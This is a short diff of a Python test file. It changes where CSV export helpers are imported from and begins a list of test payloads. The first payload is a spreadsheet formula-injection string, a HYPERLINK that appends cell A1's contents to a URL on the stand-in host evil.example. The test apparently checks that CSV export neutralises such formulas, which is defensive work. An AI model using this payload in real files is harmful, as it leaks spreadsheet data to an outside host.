@@ -13,8 +13,8 @@ import pytest
 
 from index.article import Article
 from index.build import rebuild
+from search.export import CSV_COLUMNS, FORMULA_STARTS, csv_rows
 from web import create_app
-from web.formats import CSV_COLUMNS, FORMULA_STARTS, csv_rows
 
 PAYLOADS = (
     '=HYPERLINK("http://evil.example/?"&A1,"Докладніше")',
